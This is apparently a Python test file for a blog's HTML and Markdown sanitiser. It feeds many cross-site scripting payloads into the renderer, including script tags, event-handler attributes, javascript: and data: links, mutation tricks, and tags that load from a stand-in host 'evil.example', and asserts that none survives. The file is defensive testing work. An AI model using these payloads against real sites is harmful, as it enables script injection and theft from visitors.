"""Text that anybody typed, made safe: what survives and what does not."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from blog.core.html import ATTRIBUTES, CLASSES, EVERYWHERE, FIXED, TAGS, render
from blog.core.markdown.mathml import ATTRIBUTES as FORMULA_ATTRIBUTES
from blog.core.markdown.mathml import ELEMENTS
from tests.core.html_reader import Reader

# Pieces of what people and attackers write, to be put together at random.
PIECES = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href='javascript:alert(1)'>",
        "</a>",
        "<math><mtext></style><img src=x onerror=alert(1)>",
        "<iframe srcdoc='<script>1</script>'>",
        "<style>*{}</style>",
        "<div style='color:red' class='table evil' id='admin'>",
        "</div>",
        "<!--",
        "-->",
        "<![CDATA[",
        "<details open ontoggle=alert(1)>",
        "[a](javascript:alert(1))",
        "[a](data:text/html,<script>)",
        '![a](x" onerror="alert(1))',
        "<javascript:alert(1)>",
        "`<script>`",
        "```html\n<script>\n```\n",
        "# Heading\n",
        "## <b onclick=x>Heading\n",
        "| a | b |\n|---|--:|\n| 1 | 2 |\n",
        "[^1]",
        "\n\n[^1]: note\n\n",
        "- [x] done\n",
        "> [!NOTE]\n> text\n",
        "$\\text{<script>}$",
        '```js title="<script>"\nif (a) b\n```\n',
        "{.wide onclick=x}",
        "[a]{lang=de onclick=x}",
        ":::note <script>\n",
        "&lt;script&gt;",
        "&#106;avascript:",
        "\x00",
        "\ud83d",
        "\u202e",
        "<",
        "\n",
        "\\",
        "text",
    ]
)
DOCUMENTS = st.lists(PIECES | st.text(max_size=20), max_size=12).map("".join)


def assert_safe(html: str) -> None:
    for tag, attributes in Reader(html).elements:
        if tag == "input":
            # Ours, put in after sanitising: nobody can type into it or send it anywhere.
            assert attributes.keys() <= {"type", "disabled", "checked", "aria-label"}
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes
            continue
        if tag in ELEMENTS - TAGS:
            # Formulas, put in as well; tests/core/markdown/test_formulas.py judges them.
            assert attributes.keys() <= FORMULA_ATTRIBUTES.keys() | {"class"}
            continue
        if tag == "span" and attributes.keys() == {"class"}:
            # The colours of code, put in as well.
            assert attributes["class"] in {"k", "s", "m", "c"}
            continue
        assert tag in TAGS, tag
        for name, value in attributes.items():
            known = EVERYWHERE | ATTRIBUTES.get(tag, frozenset()) | {"class", "id"}
            assert name in known or (tag, name, value) in FIXED, (tag, name)
            assert not name.startswith("on")
        assert set(attributes.get("class", "").split()) <= CLASSES
        assert attributes.get("id", "s-").startswith("s-")
        for name in ("href", "src"):
            scheme = re.match(r"\s*([\w+.-]+):", attributes.get(name, ""))
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}


@given(DOCUMENTS)
def test_any_text_renders_safely_and_the_same_each_time(text: str) -> None:
    rendered = render(text)
    assert_safe(rendered.html)
    assert render(text) == rendered
    assert rendered.words >= 0
    assert len(rendered.excerpt) <= 160


@given(st.text())
def test_any_characters_render(text: str) -> None:
    assert_safe(render(text).html)


@given(st.text(alphabet="[]()!<>*_`~#|-:\\\n ^&;\"'", max_size=200))
def test_any_punctuation_renders(text: str) -> None:
    assert_safe(render(text).html)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1)>text</p>",
        "<svg onload=alert(1)>",
        "<math href=javascript:alert(1)>x</math>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='vbscript:x'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,x)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "<iframe src=//evil.example></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=//evil.example><button>x</button></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>body{display:none}</style>",
        "<p style='position:fixed'>x</p>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><annotation-xml encoding='text/html'><script>1</script></annotation-xml></math>",
        "<input type=password name=p autofocus>",
        "<div role=alert tabindex=5>x</div>",
        '```"><script>alert(1)</script>\nx\n```',
    ],
)
def test_no_attack_survives(attack: str) -> None:
    html = render(f"Before\n\n{attack}\n\nAfter").html
    assert_safe(html)
    assert "<p>Before</p>" in html


def test_what_is_not_allowed_is_shown_as_the_text_that_it_was() -> None:
    assert "&lt;script&gt;alert(1)" in render("<script>alert(1)</script>").html


def test_links_keep_the_schemes_that_lead_somewhere() -> None:
    html = render(
        "[a](https://example.org/?a=1&b=2) [b](mailto:a@example.org) [c](/about) [d](#s-x) <tel:+1>"
    ).html
    targets = [attributes["href"] for tag, attributes in Reader(html).elements if tag == "a"]
    assert targets == [
        "https://example.org/?a=1&b=2",
        "mailto:a@example.org",
        "/about",
        "#s-x",
        "tel:+1",
    ]


def test_many_open_brackets_do_not_stop_the_renderer_from_answering() -> None:
    assert "[" in render("[" * 2000).html


def test_deep_nesting_renders() -> None:
    assert_safe(render(">" * 300 + " deep").html)
    assert_safe(render("- " * 300 + "deep").html)
    assert_safe(render("*" * 5000).html)
    assert_safe(render("<div>" * 500).html)
